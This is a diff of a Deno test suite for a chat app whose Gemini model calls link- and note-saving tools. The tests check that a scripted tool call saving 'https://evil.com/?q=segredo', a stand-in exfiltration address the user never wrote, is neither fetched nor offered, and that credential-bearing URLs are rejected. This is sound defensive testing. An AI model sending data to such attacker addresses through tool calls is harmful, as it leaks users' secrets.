@@ -39,15 +39,12 @@ Deno.test("links and videos", async (t) => {
   const stack = await startStack({ functions: { chat: createChatApp({ network: web.network }) }, env: fake.env });
   const ana = await stack.createUser("Ana");
   const call = (name: string, args: object) => gemini({ functionCall: { id: crypto.randomUUID(), name, args } });
-  /** Says it, has the model call the tool, and returns what the tool answered to the model. */
+  /** Says it, has the model call the tool, and returns what the tool answered. */
   const save = async (name: string, url: string, more: object = {}, said = `salva ${url} que eu quero ver depois`) => {
     fake.script(call(name, { url, quote: said, ...more }), gemini({ text: "Ok." }));
-    const { text } = await new Conversation(stack, ana).say(said);
-    const parts = fake.requests.at(-1)!.contents.at(-1)!.parts;
-    const response = parts.find((part) => "functionResponse" in part)?.functionResponse as
-      | { response: { content?: unknown; [key: string]: unknown } }
-      | undefined;
-    return { text, response: JSON.stringify(response?.response ?? null) };
+    const { text, message } = await new Conversation(stack, ana).say(said);
+    const part = message.parts.find(({ type }) => type === `tool-${name}`);
+    return { text, response: JSON.stringify(part?.output ?? part?.errorText ?? null) };
   };
   const saved = async () => (await ask(ana.client, "search_items")).items;
 
@@ -128,7 +125,7 @@ Deno.test("links and videos", async (t) => {
   await t.step("an address that the person did not write is neither read nor kept", async () => {
     const asked = web.requests.length;
     const { response } = await save("save_link", "https://evil.com/?q=segredo", {}, "salva aquele link");
-    assert.match(response, /https:\/\/evil\.com\/\?q=segredo não está nas palavras citadas/);
+    assert.match(response, /não escreveu o endereço https:\/\/evil\.com\/\?q=segredo/);
     assert.equal(web.requests.length, asked);
     const { response: password } = await save("save_link", "https://ana:senha@a.com/");
     assert.match(password, /Esse endereço não serve/);
@@ -137,7 +134,15 @@ Deno.test("links and videos", async (t) => {
 
   await t.step("once a page was read in a turn, another write is offered and not run", async () => {
     fake.script(
-      call("save_link", { url: "https://receitas.com.br/bolo", quote: "salva https://receitas.com.br/bolo" }),
+      gemini(
+        { functionCall: { name: "get_habits", args: {} } },
+        {
+          functionCall: {
+            name: "save_link",
+            args: { url: "https://receitas.com.br/bolo", quote: "salva https://receitas.com.br/bolo" },
+          },
+        },
+      ),
       call("save_note", { content: "comprar cenoura", quote: "anota comprar cenoura" }),
     );
     const chat = new Conversation(stack, ana);
@@ -147,13 +152,15 @@ Deno.test("links and videos", async (t) => {
     assert.equal((await chat.say("sim")).text, "Guardei a nota “comprar cenoura”.");
   });
 
-  await t.step("an address that waits for a yes is not read before it, nor after", async () => {
-    fake.script(call("search_items", {}), call("save_link", { url: "https://evil.com/?q=segredo", quote: "e então?" }));
+  await t.step("an address that nobody wrote is not offered either, once titles of pages were read", async () => {
+    fake.script(
+      call("search_items", {}),
+      call("save_link", { url: "https://evil.com/?q=segredo", quote: "e então?" }),
+      gemini({ text: "É só isso." }),
+    );
     const asked = web.requests.length;
-    const chat = new Conversation(stack, ana);
-    const offered = await chat.say("o que eu tenho salvo? e então?");
-    assert.match(offered.text, /Quer que eu guarde o link .*evil\.com/);
-    assert.match((await chat.say("sim")).text, /evil\.com/);
+    const answer = await new Conversation(stack, ana).say("o que você me mostra de tudo? e então?");
+    assert.deepEqual([answer.text, answer.metadata.waiting], ["É só isso.", undefined]);
     assert.equal(web.requests.length, asked);
   });
 
